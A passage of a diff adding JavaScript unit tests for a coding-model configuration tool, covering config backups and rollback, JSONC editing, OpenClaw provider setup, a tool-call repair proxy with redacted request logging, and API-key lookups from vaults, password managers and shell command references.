+  const tmp = () => mkdtempSync(join(tmpdir(), 'fcm-writes-'))
+
+  it('unifiedDiff returns an empty string for identical content', () => {
+    assert.equal(unifiedDiff('a\nb\n', 'a\nb\n'), '')
+  })
+
+  it('unifiedDiff shows changed lines with context and hunk headers', () => {
+    const before = ['{', '  "model": "a",', '  "x": 1', '}'].join('\n') + '\n'
+    const after = ['{', '  "model": "b",', '  "x": 1', '}'].join('\n') + '\n'
+    const diff = unifiedDiff(before, after, { fromLabel: 'old', toLabel: 'new' })
+    assert.deepEqual(diff.trimEnd().split('\n'), [
+      '--- old', '+++ new', '@@ -1,4 +1,4 @@', ' {', '-  "model": "a",', '+  "model": "b",', '   "x": 1', ' }',
+    ])
+  })
+
+  it('unifiedDiff splits distant changes into separate hunks and handles new files', () => {
+    const lines = Array.from({ length: 20 }, (_, i) => `l${i}`)
+    const changed = [...lines]
+    changed[1] = 'X'
+    changed[18] = 'Y'
+    const diff = unifiedDiff(lines.join('\n'), changed.join('\n'))
+    assert.equal(diff.split('\n').filter(l => l.startsWith('@@')).length, 2)
+    assert.ok(unifiedDiff('', 'a\n').includes('@@ -0,0 +1,1 @@'))
+  })
+
+  it('pushBackup keeps only the newest entries of a target', () => {
+    const dir = tmp()
+    for (let i = 1; i <= 5; i++) pushBackup('opencode', 'opencode.json', `v${i}`, { dir, now: i, keep: 3 })
+    const backups = listBackups('opencode', { dir })
+    assert.deepEqual(backups.map(b => b.ts), [5, 4, 3])
+    assert.equal(readFileSync(backups[0].path, 'utf8'), 'v5')
+    assert.deepEqual(listBackups('openclaw', { dir }), [])
+  })
+
+  it('pushBackup never overwrites a backup taken in the same millisecond', () => {
+    const dir = tmp()
+    const a = pushBackup('opencode', 'opencode.json', 'one', { dir, now: 7 })
+    const b = pushBackup('opencode', 'opencode.json', 'two', { dir, now: 7 })
+    assert.notEqual(a, b)
+    assert.equal(listBackups('opencode', { dir }).length, 2)
+  })
+
+  it('commitConfigWrite backs up the previous content and skips unchanged writes', () => {
+    const dir = tmp()
+    const path = join(tmp(), 'nested', 'opencode.json')
+    const first = commitConfigWrite({ target: 'opencode', path, content: '{"a":1}', dir, now: 1 })
+    assert.equal(first.changed, true)
+    assert.equal(first.backupPath, null)
+    const second = commitConfigWrite({ target: 'opencode', path, content: '{"a":2}', dir, now: 2 })
+    assert.equal(readFileSync(second.backupPath, 'utf8'), '{"a":1}')
+    assert.ok(second.diff.includes('+{"a":2}'))
+    const third = commitConfigWrite({ target: 'opencode', path, content: '{"a":2}', dir, now: 3 })
+    assert.deepEqual(third, { changed: false, diff: '', backupPath: null })
+    assert.deepEqual(listBackups('opencode', { dir }).map(b => b.absent), [false, true], 'the first write left a "did not exist" marker')
+  })
+
+  it('commitConfigWrite with backup: false writes without touching the ring', () => {
+    const dir = tmp()
+    const path = join(tmp(), 'opencode.json')
+    commitConfigWrite({ target: 'opencode', path, content: '{"a":1}', dir, now: 1 })
+    const session = commitConfigWrite({ target: 'opencode', path, content: '{"a":1,"fcm-repair":{}}', dir, now: 2, backup: false })
+    assert.equal(session.changed, true)
+    assert.equal(session.backupPath, null)
+    commitConfigWrite({ target: 'opencode', path, content: '{"a":1}', dir, now: 3, backup: false })
+    assert.equal(readFileSync(path, 'utf8'), '{"a":1}')
+    assert.equal(listBackups('opencode', { dir }).length, 1, 'only the first write is in the ring')
+  })
+
+  it('rollbackConfig walks back one version per call, then reports nothing left', () => {
+    const dir = tmp()
+    const path = join(tmp(), 'openclaw.json')
+    for (const [i, v] of ['v1', 'v2', 'v3'].entries()) commitConfigWrite({ target: 'openclaw', path, content: v, dir, now: i + 1 })
+    const first = rollbackConfig({ target: 'openclaw', path, dir })
+    assert.equal(readFileSync(path, 'utf8'), 'v2')
+    assert.equal(first.remaining, 2)
+    assert.ok(first.diff.includes('-v3'))
+    rollbackConfig({ target: 'openclaw', path, dir })
+    assert.equal(readFileSync(path, 'utf8'), 'v1')
+    assert.equal(statSync(path).mode & 0o777, 0o600)
+    const last = rollbackConfig({ target: 'openclaw', path, dir })
+    assert.equal(last.removed, true, 'undoing the first write deletes the file we created')
+    assert.equal(existsSync(path), false)
+    assert.equal(rollbackConfig({ target: 'openclaw', path, dir }), null)
+  })
+
+  it('parseArgs recognizes the rollback command with --target', () => {
+    const args = parseArgs(['node', 'script', 'rollback', '--target', 'openclaw'])
+    assert.equal(args.command, 'rollback')
+    assert.equal(args.target, 'openclaw')
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 22. JSONC — comment-preserving reads and writes of OpenCode / OpenClaw configs
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('jsonc', () => {
+  const OPENCODE = [
+    '{',
+    '  // my OpenCode setup',
+    '  "$schema": "https://opencode.ai/config.json",',
+    '  "model": "groq/a", // default',
+    '  "provider": {',
+    '    /* NIM */',
+    '    "nvidia": { "npm": "x" },',
+    '    "old": { "a": 1 },',
+    '  },',
+    '}',
+    '',
+  ].join('\n')
+
+  it('parses comments, trailing commas and JSON5 syntax', () => {
+    assert.deepEqual(parseJsonc(OPENCODE).provider, { nvidia: { npm: 'x' }, old: { a: 1 } })
+    const json5 = parseJsonc("{ key: 'it\\'s', hex: 0x1F, half: .5, plus: +2, list: [1, 2,], }")
+    assert.deepEqual(json5, { key: "it's", hex: 31, half: 0.5, plus: 2, list: [1, 2] })
+  })
+
+  it('throws with line and column on broken input', () => {
+    assert.throws(() => parseJsonc('{\n  "a": 1\n  "b": 2\n}'), (err) => err.code === 'EJSONC' && err.line === 3 && err.column === 3)
+    assert.throws(() => parseJsonc(''), { code: 'EJSONC' })
+    assert.throws(() => parseJsonc('{ "a": 1 } trailing'), { code: 'EJSONC' })
+    assert.throws(() => parseJsonc('{ /* never closed'), { code: 'EJSONC' })
+  })
+
+  it('updateJsonc returns the same text when nothing changed', () => {
+    assert.equal(updateJsonc(OPENCODE, parseJsonc(OPENCODE)), OPENCODE)
+  })
+
+  it('updateJsonc changes values in place and keeps comments', () => {
+    const config = parseJsonc(OPENCODE)
+    config.model = 'nvidia/b'
+    const out = updateJsonc(OPENCODE, config)
+    assert.equal(out, OPENCODE.replace('"groq/a"', '"nvidia/b"'))
+  })
+
+  it('updateJsonc removes keys and appends new ones with the file indentation', () => {
+    const config = parseJsonc(OPENCODE)
+    delete config.provider.old
+    config.small_model = 'groq/fast'
+    const out = updateJsonc(OPENCODE, config)
+    assert.deepEqual(parseJsonc(out), config)
+    assert.ok(out.includes('// my OpenCode setup'))
+    assert.ok(out.includes('/* NIM */'))
+    assert.ok(out.includes('\n  "small_model": "groq/fast",\n}'))
+    assert.ok(!out.includes('"old"'))
+  })
+
+  it('updateJsonc removes a key in the middle with its line', () => {
+    const text = '{\n  "a": 1,\n  "b": 2, // gone\n  "c": 3\n}'
+    assert.equal(updateJsonc(text, { a: 1, c: 3 }), '{\n  "a": 1,\n  "c": 3\n}')
+  })
+
+  it('updateJsonc handles inline objects, arrays and new files', () => {
+    assert.equal(updateJsonc('{ "a": 1, "b": 2 }', { b: 3, c: [1] }), '{ "b": 3, "c": [1] }')
+    assert.equal(updateJsonc('[1, 2, 3]', [1, 5]), '[1, 5]')
+    assert.equal(updateJsonc('', { a: 1 }), '{\n  "a": 1\n}')
+    assert.throws(() => updateJsonc('{ broken', { a: 1 }), { code: 'EJSONC' })
+  })
+
+  it('JSON targets keep comments in existing files', () => {
+    const existing = '{\n  // keep me\n  "models": []\n}\n'
+    const out = buildTargetConfig('continue', existing, {
+      modelId: 'm', label: 'M', providerKey: 'groq', chatUrl: 'https://api.groq.com/openai/v1/chat/completions',
+    })
+    assert.ok(out.includes('// keep me'))
+    assert.equal(parseJsonc(out).models[0].model, 'm')
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 23. OPENCLAW — provider blocks, allowlist and env keys for every provider
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('openclaw', () => {
+  const groq = {
+    providerKey: 'groq', modelId: 'llama-3.3-70b-versatile', label: 'Llama 3.3 70B', tier: 'A-', ctx: '128k',
+    baseUrl: 'https://api.groq.com/openai/v1', envVar: 'GROQ_API_KEY', apiKey: 'gsk_test',
+  }
+
+  it('builds refs from the provider key and drops the zai/ prefix', () => {
+    assert.equal(openClawModelRef('groq', 'llama-3.3-70b-versatile'), 'groq/llama-3.3-70b-versatile')
+    assert.equal(openClawModelRef('nvidia', 'deepseek-ai/deepseek-v3.2'), 'nvidia/deepseek-ai/deepseek-v3.2')
+    assert.equal(openClawModelId('zai', 'zai/glm-4.7'), 'glm-4.7')
+    assert.equal(openClawModelRef('zai', 'zai/glm-4.7'), 'zai/glm-4.7')
+  })
+
+  it('provider blocks reference the key by env var (NVIDIA keeps its historical shape)', () => {
+    assert.deepEqual(openClawProviderBlock('groq', { baseUrl: groq.baseUrl, envVar: 'GROQ_API_KEY' }), {
+      baseUrl: groq.baseUrl, api: 'openai-completions', apiKey: '${GROQ_API_KEY}', models: [],
+    })
+    assert.equal(openClawProviderBlock('nvidia', { baseUrl: 'x', envVar: 'NVIDIA_API_KEY' }).apiKey, undefined)
+  })
+
+  it('model entries take the context window from the catalog and limits from the tier', () => {
+    const entry = openClawModelEntry(groq)
+    assert.equal(entry.id, 'llama-3.3-70b-versatile')
+    assert.equal(entry.contextWindow, 128000)
+    assert.equal(entry.maxTokens, 4096)
+    assert.deepEqual(entry.cost, { input: 0, output: 0, cacheRead: 0, cacheWrite: 0 })
+    assert.equal(openClawModelEntry({ providerKey: 'x', modelId: 'm', label: 'M', tier: 'B' }).contextWindow, 32768)
+  })
+
+  it('applyOpenClawModel writes provider block, env key, primary model and allowlist', () => {
+    const config = {}
+    const applied = applyOpenClawModel(config, groq)
+    assert.deepEqual(applied, { ref: 'groq/llama-3.3-70b-versatile', addedProvider: true, storedKey: true, addedModel: true })
+    assert.equal(config.models.providers.groq.baseUrl, groq.baseUrl)
+    assert.equal(config.models.providers.groq.models[0].id, 'llama-3.3-70b-versatile')
+    assert.equal(config.env.GROQ_API_KEY, 'gsk_test')
+    assert.equal(config.agents.defaults.model.primary, 'groq/llama-3.3-70b-versatile')
+    assert.deepEqual(config.agents.defaults.models['groq/llama-3.3-70b-versatile'], {})
+  })
+
+  it('applyOpenClawModel keeps existing provider settings, keys and allowlist entries', () => {
+    const config = {
+      env: { GROQ_API_KEY: 'mine' },
+      models: { providers: { groq: { baseUrl: 'https://proxy.local/v1', api: 'openai-completions', models: [{ id: 'llama-3.3-70b-versatile', maxTokens: 1 }] } } },
+      agents: { defaults: { models: { 'groq/llama-3.3-70b-versatile': { alias: 'fast' } } } },
+    }
+    const applied = applyOpenClawModel(config, groq)
+    assert.equal(applied.addedProvider, false)
+    assert.equal(applied.storedKey, false)
+    assert.equal(applied.addedModel, false)
+    assert.equal(config.env.GROQ_API_KEY, 'mine')
+    assert.equal(config.models.providers.groq.baseUrl, 'https://proxy.local/v1')
+    assert.equal(config.models.providers.groq.models[0].maxTokens, 1)
+    assert.deepEqual(config.agents.defaults.models['groq/llama-3.3-70b-versatile'], { alias: 'fast' })
+  })
+
+  it('ZAI uses the coding plan base URL and fixes a stale /v1 proxy block', () => {
+    const zai = { providerKey: 'zai', modelId: 'zai/glm-4.7', label: 'GLM-4.7', baseUrl: 'https://api.z.ai/api/coding/paas/v4', envVar: 'ZAI_API_KEY' }
+    const config = { models: { providers: { zai: { baseUrl: 'http://127.0.0.1:4242/v1', models: [] } } } }
+    const applied = applyOpenClawModel(config, zai)
+    assert.equal(applied.ref, 'zai/glm-4.7')
+    assert.equal(config.models.providers.zai.baseUrl, 'https://api.z.ai/api/coding/paas/v4')
+    assert.equal(config.models.providers.zai.models[0].id, 'glm-4.7')
+  })
+
+  it('addOpenClawCatalog appends only missing catalog models', () => {
+    const block = { models: [{ id: 'a' }] }
+    const added = addOpenClawCatalog(block, 'zai', [['zai/a', 'A', 'S', '1%', '128k'], ['zai/b', 'B', 'B', '1%', '1M']])
+    assert.equal(added, 1)
+    assert.deepEqual(block.models.map(m => m.id), ['a', 'b'])
+    assert.equal(block.models[1].contextWindow, 1000000)
+  })
+
+  it('getProviderEnvVar returns the first env var name, with a fallback for unknown providers', () => {
+    assert.equal(getProviderEnvVar('qwen'), 'DASHSCOPE_API_KEY')
+    assert.equal(getProviderEnvVar('huggingface'), 'HUGGINGFACE_API_KEY')
+    assert.equal(getProviderEnvVar('my-llm'), 'MY_LLM_API_KEY')
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 24. REPAIR PROXY — tool-call repair for any provider behind a localhost proxy
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('repair proxy', () => {
+  const sse = (...events) => events.map(e => `data: ${typeof e === 'string' ? e : JSON.stringify(e)}\n\n`).join('')
+  const toolDelta = (index, fields) => ({ choices: [{ index: 0, delta: { tool_calls: [{ index, ...fields }] } }] })
+
+  it('derives the upstream from the provider chat URL', () => {
+    assert.deepEqual(repairProxyUpstream('https://api.z.ai/api/coding/paas/v4/chat/completions'), {
+      protocol: 'https:', hostname: 'api.z.ai', port: 443, host: 'api.z.ai', basePath: '/api/coding/paas/v4',
+    })
+    const local = repairProxyUpstream('http://localhost:8000/v1/chat/completions')
+    assert.equal(local.port, 8000)
+    assert.equal(local.host, 'localhost:8000')
+    assert.equal(local.basePath, '/v1')
+  })
+
+  it('rewrites /v1 paths onto the base path and rejects the rest', () => {
+    assert.equal(rewriteProxyPath('/v1/chat/completions', '/api/coding/paas/v4'), '/api/coding/paas/v4/chat/completions')
+    assert.equal(rewriteProxyPath('/v1/models?x=1', '/openai/v1'), '/openai/v1/models?x=1')
+    assert.equal(rewriteProxyPath('/v1', ''), '/')
+    assert.equal(rewriteProxyPath('/v1beta/models', '/v1'), null)
+    assert.equal(rewriteProxyPath('/api/v0/health', '/v1'), null)
+  })
+
+  it('takes the auth scheme from custom providers and Bearer for built-ins', () => {
+    assert.deepEqual(upstreamFromSource(sources.groq).auth, { header: 'Authorization', prefix: 'Bearer ' })
+    const custom = { url: 'http://gw/v1/chat/completions', custom: true, auth: { header: 'x-api-key', prefix: '' }, headers: { 'X-Team': 'a' } }
+    assert.deepEqual(upstreamFromSource(custom), { chatUrl: custom.url, auth: custom.auth, headers: { 'X-Team': 'a' } })
+    assert.equal(upstreamFromSource({ ...custom, auth: null }).auth, null)
+  })
+
+  it('decides which launches need the proxy', () => {
+    assert.equal(needsRepairProxy('zai', 'zai/glm-5'), true)
+    assert.equal(needsRepairProxy('nvidia', 'z-ai/glm5'), true)
+    assert.equal(needsRepairProxy('cerebras', 'glm-4.6'), true)
+    assert.equal(needsRepairProxy('groq', 'llama-3.3-70b-versatile'), false)
+    assert.equal(needsRepairProxy('groq', 'llama-3.3-70b-versatile', { toolCalls: 'repaired' }), true)
+    assert.equal(needsRepairProxy('groq', 'llama-3.3-70b-versatile', { toolCalls: 'ok' }), false)
+    assert.equal(needsRepairProxy('groq', 'x', { settings: { providers: ['groq'] } }), true)
+    assert.equal(needsRepairProxy('openrouter', 'a/b', { settings: { models: ['openrouter/a/b'] } }), true)
+    assert.equal(needsRepairProxy('nvidia', 'a/b', { settings: { models: ['a/b'] } }), true)
+    assert.equal(needsRepairProxy('nvidia', 'a/b', { settings: { models: ['openrouter/a/b'] } }), false)
+  })
+
+  const dataEvents = (text) => text.split('\n').filter(l => l.startsWith('data: {')).map(l => JSON.parse(l.slice(6)))
+
+  it('forwards content deltas as soon as their event is complete', () => {
+    const repairer = createSseRepairer()
+    assert.equal(repairer.write('data: {"choices":[{"index":0,"delta":{"content":"he'), '')
+    const out = repairer.write('llo"}}]}\r\n\r\ndata: {"choi')
+    assert.equal(dataEvents(out)[0].choices[0].delta.content, 'hello')
+    assert.equal(dataEvents(repairer.write('ces":[{"delta":{"content":"!"}}]}\n\n'))[0].choices[0].delta.content, '!')
+    assert.equal(repairer.end(), '')
+  })
+
+  it('holds tool-call arguments until the next call starts, then emits them repaired', () => {
+    const repairer = createSseRepairer()
+    const header = dataEvents(repairer.write(sse(toolDelta(0, { id: 'c1', type: 'function', function: { name: 'read', arguments: '{"path":' } }))))
+    assert.deepEqual(header[0].choices[0].delta.tool_calls, [{ index: 0, id: 'c1', type: 'function', function: { name: 'read', arguments: '' } }])
+    assert.equal(repairer.write(sse(toolDelta(0, { function: { arguments: '"a.js"}.' } }))), '')
+    const next = dataEvents(repairer.write(sse(toolDelta(1, { id: 'c2', function: { name: 'ls' } }))))
+    assert.equal(next[0].choices[0].delta.tool_calls[0].function.arguments, '{"path":"a.js"}')
+    assert.equal(next[1].choices[0].delta.tool_calls[0].id, 'c2')
+    const done = repairer.write('data: [DONE]\n\n')
+    assert.equal(dataEvents(done)[0].choices[0].delta.tool_calls[0].function.arguments, '{}')
+    assert.ok(done.endsWith('data: [DONE]\n\n'))
+  })
+
+  it('puts the arguments into a chunk that starts and finishes the call', () => {
+    const chunk = { id: 'x', model: 'glm', choices: [{ index: 0, delta: { tool_calls: [{ index: 0, id: 'c1', function: { name: 'read', arguments: { path: 'a.js' } } }] }, finish_reason: 'tool_calls' }] }
+    const events = dataEvents(repairSseBody(sse(chunk, '[DONE]')))
+    assert.equal(events.length, 1)
+    assert.equal(events[0].choices[0].delta.tool_calls[0].function.arguments, '{"path":"a.js"}')
+    assert.equal(events[0].choices[0].finish_reason, 'tool_calls')
+  })
+
+  it('emits held arguments before the finishing chunk', () => {
+    const events = dataEvents(repairSseBody(sse(
+      { id: 'x', choices: [{ index: 0, delta: { tool_calls: [{ index: 0, id: 'c1', function: { name: 'read', arguments: '{"a":1' } }] } }] },
+      { id: 'x', choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] }
+    )))
+    assert.deepEqual(events.map(e => e.choices[0].delta.tool_calls?.[0].function.arguments), ['', '{"a":1}', undefined])
+    assert.equal(events[1].id, 'x')
+  })
+
+  it('leaves streams without tool calls untouched', () => {
+    const body = sse({ choices: [{ delta: { content: 'hi' } }] }, '[DONE]')
+    assert.equal(repairSseBody(body), body)
+  })
+
+  it('proxies to the upstream with the provider auth and repairs chat responses', async () => {
+    const seen = []
+    const upstream = createHttpServer((req, res) => {
+      seen.push({ url: req.url, key: req.headers['x-api-key'], authorization: req.headers.authorization })
+      if (req.url.endsWith('/models')) { res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"data":[]}'); return }
+      if (req.headers['x-stream']) {
+        res.writeHead(200, { 'content-type': 'text/event-stream' })
+        res.write(sse({ choices: [{ delta: { content: 'hi' } }] }))
+        res.end(sse(toolDelta(0, { id: 'c', function: { name: 'read', arguments: '{"a":1}.' } }), '[DONE]'))
+        return
+      }
+      res.writeHead(200, { 'content-type': 'application/json' })
+      res.end(JSON.stringify({ choices: [{ message: { tool_calls: [{ function: { name: 'read', arguments: '{"a":1' } }] } }] }))
+    })
+    await new Promise(r => upstream.listen(0, '127.0.0.1', r))
+    const chatUrl = `http://127.0.0.1:${upstream.address().port}/gw/v2/chat/completions`
+    const { server, port } = await createRepairProxy({ chatUrl, apiKey: 'real', auth: { header: 'x-api-key', prefix: '' } })
+    try {
+      const chat = await fetch(`http://127.0.0.1:${port}/v1/chat/completions`, {
+        method: 'POST', headers: { authorization: 'Bearer placeholder', 'content-type': 'application/json' }, body: '{}',
+      })
+      const data = await chat.json()
+      assert.equal(data.choices[0].message.tool_calls[0].function.arguments, '{"a":1}')
+      const streamed = await fetch(`http://127.0.0.1:${port}/v1/chat/completions`, { method: 'POST', headers: { 'x-stream': '1' }, body: '{}' })
+      const events = dataEvents(await streamed.text())
+      assert.equal(events[0].choices[0].delta.content, 'hi')
+      assert.equal(events[2].choices[0].delta.tool_calls[0].function.arguments, '{"a":1}')
+      assert.equal((await fetch(`http://127.0.0.1:${port}/v1/models`)).status, 200)
+      assert.equal((await fetch(`http://127.0.0.1:${port}/health`)).status, 404)
+      assert.deepEqual(seen, [
+        { url: '/gw/v2/chat/completions', key: 'real', authorization: undefined },
+        { url: '/gw/v2/chat/completions', key: 'real', authorization: undefined },
+        { url: '/gw/v2/models', key: 'real', authorization: undefined },
+      ])
+    } finally {
+      server.close()
+      upstream.close()
+    }
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 25. PROXY LOG — redacted JSONL traffic log of the repair proxy, used by `replay`
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('proxy log', () => {
+  const entry = (id, ts, extra = {}) => ({ id, ts, providerKey: 'zai', requestHeaders: {}, requestBody: { model: 'glm-4.7' }, status: 200, ...extra })
+
+  it('redacts auth headers and every secret string', () => {
+    assert.deepEqual(redactHeaders({ Authorization: 'Bearer k', 'X-Team': 'a', 'x-custom-key': 'k' }, ['X-Custom-Key']), {
+      Authorization: REDACTED, 'X-Team': 'a', 'x-custom-key': REDACTED,
+    })
+    const out = redactSecrets({ a: ['key=sk-12345678 end'], b: { c: 'sk-12345678' }, n: 1 }, ['sk-12345678', 'x', null])
+    assert.deepEqual(out, { a: [`key=${REDACTED} end`], b: { c: REDACTED }, n: 1 })
+  })
+
+  it('caps long bodies', () => {
+    assert.deepEqual(truncateBody('abcdef', 4), { text: 'abcd', truncated: true })
+    assert.deepEqual(truncateBody('ab', 4), { text: 'ab', truncated: false })
+  })
+
+  it('appends redacted entries and finds them by id, prefix or "last"', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'fcm-proxy-log-'))
+    const now = new Date('2026-03-01T10:00:00Z')
+    appendProxyLog(entry('aaa-1', 1, { requestHeaders: { authorization: 'Bearer client-secret-1' }, response: 'echo client-secret-1 real-key-123' }), { dir, now, secrets: ['real-key-123'] })
+    appendProxyLog(entry('bbb-2', 2, { requestBody: null, path: '/v1/models' }), { dir, now })
+    const logged = readProxyLog({ dir })
+    assert.equal(logged.length, 2)
+    assert.equal(logged[0].requestHeaders.authorization, REDACTED)
+    assert.equal(logged[0].response, `echo ${REDACTED} ${REDACTED}`)
+    assert.equal(findProxyLogEntry('last', { dir }).id, 'aaa-1')
+    assert.equal(findProxyLogEntry('bbb', { dir }).id, 'bbb-2')
+    assert.equal(findProxyLogEntry('zzz', { dir }), null)
+  })
+
+  it('prunes day files past the retention', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'fcm-proxy-log-'))
+    appendProxyLog(entry('old', 1), { dir, now: new Date('2026-01-01T10:00:00Z') })
+    appendProxyLog(entry('new', 2), { dir, now: new Date('2026-01-09T10:00:00Z') })
+    pruneProxyLog({ dir, now: Date.parse('2026-01-09T12:00:00Z'), retentionDays: 7 })
+    assert.deepEqual(readProxyLog({ dir }).map(e => e.id), ['new'])
+  })
+
+  it('collects tool calls from JSON and SSE answers', () => {
+    const json = JSON.stringify({ choices: [{ message: { tool_calls: [{ id: 'c', function: { name: 'read', arguments: '{"a":1}.' } }] } }] })
+    assert.deepEqual(collectToolCalls(json), [{ index: 0, id: 'c', name: 'read', arguments: '{"a":1}.' }])
+    const stream = 'data: {"choices":[{"delta":{"tool_calls":[{"index":0,"id":"c","function":{"name":"ls","arguments":"{\\"p\\""}}]}}]}\n\n'
+      + 'data: {"choices":[{"delta":{"tool_calls":[{"index":0,"function":{"arguments":":1}"}}]}}]}\n\ndata: [DONE]\n\n'
+    assert.deepEqual(collectToolCalls(stream), [{ index: 0, id: 'c', name: 'ls', arguments: '{"p":1}' }])
+    assert.deepEqual(collectToolCalls('not json'), [])
+  })
+
+  it('repairJsonBody keeps the upstream bytes when no tool call changed', () => {
+    const spaced = '{ "choices": [ { "message": { "tool_calls": [ { "function": { "name": "read", "arguments": "{\\"a\\":1}" } } ] } } ] }'
+    assert.equal(repairJsonBody(spaced), spaced)
+    const broken = JSON.stringify({ choices: [{ message: { tool_calls: [{ function: { name: 'read', arguments: '{"a":1' } }] } }] })
+    assert.equal(collectToolCalls(repairJsonBody(broken))[0].arguments, '{"a":1}')
+    assert.equal(repairJsonBody('not json'), 'not json')
+  })
+
+  it('the proxy logs byte-identical answers as unrepaired and oversized requests as not replayable', async () => {
+    const entries = []
+    const answer = '{ "choices": [ { "message": { "content": "ok" } } ] }'
+    const upstream = createHttpServer((req, res) => {
+      req.resume()
+      req.on('end', () => {
+        res.writeHead(200, { 'content-type': 'application/json' })
+        res.end(answer)
+      })
+    })
+    await new Promise(r => upstream.listen(0, '127.0.0.1', r))
+    const { server, port } = await createRepairProxy({ chatUrl: `http://127.0.0.1:${upstream.address().port}/v1/chat/completions`, log: (e) => entries.push(e) })
+    try {
+      const resp = await fetch(`http://127.0.0.1:${port}/v1/chat/completions`, { method: 'POST', body: '{"model":"m"}' })
+      assert.equal(await resp.text(), answer)
+      assert.equal(entries[0].repairedResponse, null)
+      assert.equal(entries[0].requestBodyOmitted, null)
+      const big = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'x'.repeat(MAX_LOGGED_BODY) }] })
+      await (await fetch(`http://127.0.0.1:${port}/v1/chat/completions`, { method: 'POST', body: big })).text()
+      assert.equal(entries[1].requestBody, null)
+      assert.match(entries[1].requestBodyOmitted, /over the 512 KB log limit/)
+    } finally {
+      server.close()
+      upstream.close()
+    }
+  })
+
+  it('the proxy logs each request and answers unreachable upstreams with a JSON error', async () => {
+    const entries = []
+    const closed = createHttpServer()
+    await new Promise(r => closed.listen(0, '127.0.0.1', r))
+    const deadPort = closed.address().port
+    await new Promise(r => closed.close(r))
+    const { server, port } = await createRepairProxy({ chatUrl: `http://127.0.0.1:${deadPort}/v1/chat/completions`, providerKey: 'vllm', log: (e) => entries.push(e) })
+    try {
+      const resp = await fetch(`http://127.0.0.1:${port}/v1/chat/completions`, { method: 'POST', body: '{"model":"m"}' })
+      assert.equal(resp.status, 502)
+      const body = await resp.json()
+      assert.equal(body.error.type, 'proxy_error')
+      assert.equal(body.error.code, 'refused')
+      assert.match(body.error.message, /could not reach 127\.0\.0\.1/)
+      assert.equal(entries.length, 1)
+      assert.deepEqual(entries[0].requestBody, { model: 'm' })
+      assert.equal(entries[0].providerKey, 'vllm')
+      assert.equal(entries[0].error.code, 'refused')
+    } finally {
+      server.close()
+    }
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 26. SECRETS — API keys behind vault / pass / gopass / 1Password / command references
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('secrets', () => {
+  it('parses references and leaves plain keys alone', () => {
+    assert.deepEqual(parseSecretRef('vault:groq'), { backend: 'vault', name: 'groq' })
+    assert.deepEqual(parseSecretRef('pass:free-coding-models/groq'), { backend: 'pass', name: 'free-coding-models/groq' })
+    assert.deepEqual(parseSecretRef('op://Private/Groq/credential'), { backend: '1password', name: 'op://Private/Groq/credential' })
+    assert.deepEqual(parseSecretRef('cmd:echo hi'), { backend: 'command', name: 'echo hi' })
+    assert.equal(parseSecretRef('gsk_plainkey'), null)
+    assert.equal(parseSecretRef('vault:'), null)
+    assert.equal(isSecretRef(null), false)
+  })
+
+  it('builds the lookup command of each backend', () => {
+    assert.deepEqual(secretCommandFor({ backend: 'pass', name: 'a/b' }), { file: 'pass', args: ['show', 'a/b'] })
+    assert.deepEqual(secretCommandFor({ backend: 'gopass', name: 'a/b' }), { file: 'gopass', args: ['show', '-o', 'a/b'] })
+    assert.deepEqual(secretCommandFor({ backend: '1password', name: 'op://v/i/f' }), { file: 'op', args: ['read', 'op://v/i/f'] })
+    assert.equal(keyCommandRef('pass show api/{provider}', 'groq'), 'cmd:pass show api/groq')
+  })
+
+  it('encrypts the vault and refuses a wrong passphrase', () => {
+    const file = encryptVault({ groq: 'gsk_secret' }, 'correct horse')
+    assert.equal(JSON.stringify(file).includes('gsk_secret'), false)
+    assert.deepEqual(decryptVault(file, 'correct horse'), { groq: 'gsk_secret' })
+    assert.throws(() => decryptVault(file, 'wrong'), /Wrong vault passphrase/)
+    assert.throws(() => decryptVault({ version: 9 }, 'x'), /Unsupported vault file format/)
+  })
+
+  it('stores keys in the vault and resolves vault references', () => {
+    const path = join(mkdtempSync(join(tmpdir(), 'fcm-vault-')), 'vault.json')
+    clearSecretCache()
+    try {
+      assert.equal(unlockVault('pw', { path }), 0)
+      assert.equal(storeSecret('vault', 'groq', 'gsk_from_vault'), 'vault:groq')
+      assert.equal(resolveSecret('vault:groq'), 'gsk_from_vault')
+      lockVault()
+      assert.equal(isVaultUnlocked(), false)
+      assert.equal(resolveSecret('vault:groq'), null)
+      assert.match(secretErrors().get('vault:groq'), /locked/)
+      assert.equal(unlockVault('pw', { path }), 1)
+      assert.equal(resolveSecret('vault:groq'), 'gsk_from_vault')
+      assert.throws(() => unlockVault('nope', { path }), /Wrong vault passphrase/)
+      assert.throws(() => storeSecret('1password', 'groq', 'x'), /can't write/)
+    } finally {
+      lockVault()
+      clearSecretCache()
+    }
+  })
+
+  it('runs command references once and records failures', () => {
+    clearSecretCache()
+    assert.equal(resolveSecret('cmd:printf "  key-from-cmd\\n"'), 'key-from-cmd')
+    assert.equal(resolveSecret('cmd:exit 3'), null)
+    assert.ok(secretErrors().has('cmd:exit 3'))
+    assert.equal(resolveSecret('cmd:true', { quiet: true }), null)
+    assert.equal(secretErrors().has('cmd:true'), false)
+    assert.equal(resolveSecret('plain-key'), 'plain-key')
+    clearSecretCache()
+  })
+
+  it('deferred lookups never run a command, prefetchSecret fills the cache without blocking', async () => {
+    clearSecretCache()
+    deferSecretLookups()
+    try {
+      assert.equal(resolveSecret('cmd:echo late-key'), null)
+      assert.equal(secretErrors().has('cmd:echo late-key'), false)
+      const pending = prefetchSecret('cmd:echo late-key')
+      assert.equal(resolveSecret('cmd:echo late-key'), null)
+      assert.equal(await pending, 'late-key')
+      assert.equal(resolveSecret('cmd:echo late-key'), 'late-key')
+      assert.equal(await prefetchSecret('cmd:exit 3'), null)
+      assert.ok(secretErrors().has('cmd:exit 3'))
